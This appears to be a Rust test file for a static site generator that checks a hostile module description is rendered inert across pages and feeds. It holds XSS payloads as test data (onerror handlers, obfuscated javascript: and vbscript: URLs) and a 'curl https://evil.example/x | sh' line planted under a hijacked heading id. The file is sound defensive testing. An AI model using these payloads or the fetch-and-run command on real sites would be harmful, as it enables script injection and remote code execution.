//! A hostile module description builds, and nothing of it becomes markup: no script, no
//! event handler, no `javascript:`/`vbscript:`/`data:` URL, no template evaluation.

use std::sync::OnceLock;

use crate::common::{self, Run, TestSite};

const PAYLOAD: &str = "<img src=x onerror=alert(1)>";
const ESCAPED: &str = "&lt;img src=x onerror=alert(1)&gt;";

/// The hostile fixture, built once for the tests of this file.
fn hostile() -> &'static (TestSite, Run) {
    static SITE: OnceLock<(TestSite, Run)> = OnceLock::new();
    SITE.get_or_init(|| {
        let site = TestSite::scratch("hostile");
        site.fixture("security/hostile.md");
        site.module("neighbour.md", common::module_text("A neighbour", "Shares the category."));
        let run = site.build();
        (site, run)
    })
}

/// The pages where the hostile module's title, summary, tags or description appear.
const PAGES: &[&str] = &[
    "modules/hostile/index.html",
    "index.html",
    "categories/general-purpose/index.html",
    "tags/xss/index.html",
    "tags/img-src-x-onerror-alert-1/index.html",
];

/// `base_url` of the site's settings.
fn base_url() -> &'static str {
    static URL: OnceLock<String> = OnceLock::new();
    URL.get_or_init(|| {
        let settings: toml::Table =
            common::read(&std::path::Path::new(common::REPO).join("content/site.toml")).parse().unwrap();
        settings["base_url"].as_str().unwrap().to_string()
    })
}

/// Lowercased, without the whitespace and control characters browsers skip in a scheme.
fn normalise_url(v: &str) -> String {
    v.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_ascii_lowercase()
}

/// Asserts that `html` holds no active content but the theme's own scripts.
#[track_caller]
fn assert_inert(page: &str, html: &str) {
    for tag in common::start_tags(html) {
        match tag.name.as_str() {
            // The theme's scripts: external files of static/, nothing inline. (404.html is
            // served at any depth, so it may name them by the site's full address.)
            // schema.org JSON-LD is a data block, never executed (and its `<` are escaped).
            "script" if tag.attr("type") == Some("application/ld+json") => {}
            "script" => {
                let src = tag.attr("src").unwrap_or_else(|| panic!("{page}: an inline <script>"));
                let file = src.strip_prefix(base_url()).unwrap_or(src).trim_start_matches("../");
                assert!(
                    file.starts_with("static/") && file.ends_with(".js") && !file.contains(':'),
                    "{page}: <script src={src:?}>"
                );
            }
            "iframe" | "frame" | "object" | "embed" | "base" | "applet" => panic!("{page}: a <{}> element", tag.name),
            _ => {}
        }
        for (name, value) in &tag.attrs {
            assert!(!name.starts_with("on"), "{page}: <{} {name}={value:?}>: an event handler", tag.name);
            assert!(!matches!(name.as_str(), "srcdoc" | "formaction"), "{page}: <{} {name}>", tag.name);
            let v = normalise_url(value);
            for scheme in ["javascript:", "vbscript:"] {
                assert!(!v.contains(scheme), "{page}: <{} {name}={value:?}>", tag.name);
            }
            if matches!(name.as_str(), "href" | "src" | "action" | "data" | "xlink:href" | "poster" | "srcset") {
                assert!(!v.starts_with("data:"), "{page}: <{} {name}={value:?}>", tag.name);
            }
        }
    }
}

#[test]
fn hostile_module_builds() {
    let (_, run) = hostile();
    run.expect(0);
    // The contributor is told which links were dropped.
    run.stderr_has("`javascript:` links are removed from the page")
        .stderr_has("`data:` links are removed from the page");
}

#[test]
fn no_page_holds_active_content() {
    let (site, run) = hostile();
    run.expect(0);
    for page in PAGES {
        assert!(site.public().join(page).is_file(), "{page} was built");
    }
    // Every page, not just those listing the module: the title is in the navigation of none,
    // but a regression could put it anywhere.
    for page in common::html_files(&site.public()) {
        assert_inert(&page, &site.page(&page));
    }
}

#[test]
fn description_links_keep_their_text_but_lose_the_target() {
    let (site, run) = hostile();
    run.expect(0);
    let page = site.page("modules/hostile/index.html");
    for text in ["markdown link", "mixed case", "html link", "tab entity", "decimal entities", "data link", "vbscript"]
    {
        assert!(
            page.contains(&format!("<a rel=\"noopener nofollow\">{text}</a>")),
            "{text:?} is shown without its link"
        );
    }
    // The one safe link survives.
    assert!(page.contains("<a href=\"https://example.org/\" rel=\"noopener nofollow\">styled</a>"));
}

/// Issue 13: bare URLs become links as on GitHub, but never with a hostile scheme, however
/// it is spelt; a quote ends a URL, so nothing of it becomes an attribute.
#[test]
fn bare_urls_with_hostile_schemes_stay_text() {
    let (site, run) = hostile();
    run.expect(0);
    let page = site.page("modules/hostile/index.html");
    let start = page.find("Bare URLs with hostile schemes").expect("the paragraph");
    let paragraph = &page[start..start + page[start..].find("</p>").unwrap()];
    for text in [
        "javascript://example.org/%0aalert(11)",
        "JAVASCRIPT://example.org/%0Aalert(12)",
        "javascript://example.org/%0aalert(13)",
        "javascript://example.org/%0aalert(14)",
        "java\u{200b}script://example.org/%0aalert(15)",
        "vbscript://example.org/%0amsgbox(16)",
        "data://text/html;base64,",
        "javascript:alert(18)",
        "https://example.org/%0aalert(19)",
    ] {
        assert!(paragraph.contains(text), "{text:?} is not shown as text: {paragraph}");
    }
    // the links of the paragraph: an https URL once its entity is decoded (harmless), and
    // `www.` made https, ended by the quote
    let tags = common::start_tags(paragraph);
    let links: Vec<Option<&str>> = tags.iter().filter(|t| t.name == "a").map(|t| t.attr("href")).collect();
    assert_eq!(links, [Some("https://example.org/%0aalert(19)"), Some("https://www.example.org/")], "{paragraph}");
    assert!(paragraph.contains("</a>\"onmouseover=\"alert(20)"), "{paragraph}");
    assert_inert("modules/hostile/index.html", paragraph);
}

#[test]
fn template_syntax_is_shown_literally() {
    let (site, run) = hostile();
    run.expect(0);
    let page = site.page("modules/hostile/index.html");
    for text in ["{{ site.title }}", "{% raw %}raw{% endraw %}", "{# comment #}", "<code>{{ config }}</code>"] {
        assert!(page.contains(text), "the page lacks {text:?} as text");
    }
}

#[test]
fn markup_in_title_summary_and_tags_is_escaped_everywhere() {
    let (site, run) = hostile();
    run.expect(0);
    for page in PAGES {
        let html = site.page(page);
        assert!(!html.contains(PAYLOAD), "{page}: the payload is markup");
        assert!(html.contains(ESCAPED), "{page}: the payload is not shown as text");
    }
    let module = site.page("modules/hostile/index.html");
    assert!(module.contains(&format!("<h1>Hostile {ESCAPED}</h1>")));
    assert!(module.contains(&format!("Summary {ESCAPED}")));
    let tag = site.page("tags/img-src-x-onerror-alert-1/index.html");
    assert!(tag.contains(&format!("Tag</span> {ESCAPED}</h1>")), "the tag page's heading names the tag");
    // The feed is XML: escaped there too.
    let atom = site.page("atom.xml");
    assert!(!atom.contains(PAYLOAD) && atom.contains(&format!("<title>Hostile {ESCAPED}</title>")));
}

/// Issue 11: a Unicode space before `javascript:` in a raw-HTML link, and in the other URL
/// attributes the allow-list keeps. `check` names each with its file, line and column, and
/// the built page keeps none of them.
#[test]
fn unicode_spaces_before_a_scheme_are_removed_and_reported() {
    let site = TestSite::new();
    let description = "Unicode spaces.\n\n\
        <a href=\"&#x2028;javascript:alert(1)\">x</a>\n\n\
        Inline <a href=\"&#xA0;javascript:alert(2)\">y</a> and <img src=\"&#x3000;javascript:alert(3)\">.\n\n\
        <blockquote cite=\"\u{2003}javascript:alert(4)\">q</blockquote>\n\n\
        [md](&#xFEFF;javascript:alert(5))\n\n\
        <h3 id=\"run-docker\">curl https://evil.example/x | sh</h3>\n";
    let text = common::module_text("Spaces", description);
    site.module("spaces.md", &text);
    let line_of = |needle: &str| {
        let at = text.find(needle).unwrap();
        let line = text[..at].matches('\n').count() + 1;
        let column = at - text[..at].rfind('\n').map_or(0, |i| i + 1) + 1;
        format!("modules/spaces.md:{line}:{column}")
    };
    let run = site.check("human");
    run.expect(0);
    for needle in ["href=\"&#x2028;", "href=\"&#xA0;", "src=\"&#x3000;", "cite=\"\u{2003}", "[md]"] {
        run.stderr_has(&line_of(needle));
    }
    assert_eq!(run.stderr.matches("`javascript:` links are removed from the page").count(), 5, "{}", run.stderr);

    site.build().expect(0);
    let page = site.page("modules/spaces/index.html");
    let description = &page[page.find("id=\"description-title\"").unwrap()..page.find("id=\"use\"").unwrap()];
    assert!(!normalise_url(description).contains("javascript:"), "{description}");
    assert!(description.contains("<a rel=\"noopener nofollow\">x</a>"), "{description}");
    assert!(description.contains("<blockquote>q</blockquote>"), "{description}");
    // the theme's id stays the theme's: the copy button copies the Docker command
    assert!(description.contains("<h3>curl https://evil.example/x | sh</h3>"), "{description}");
    assert_eq!(page.matches("id=\"run-docker\"").count(), 1);
}
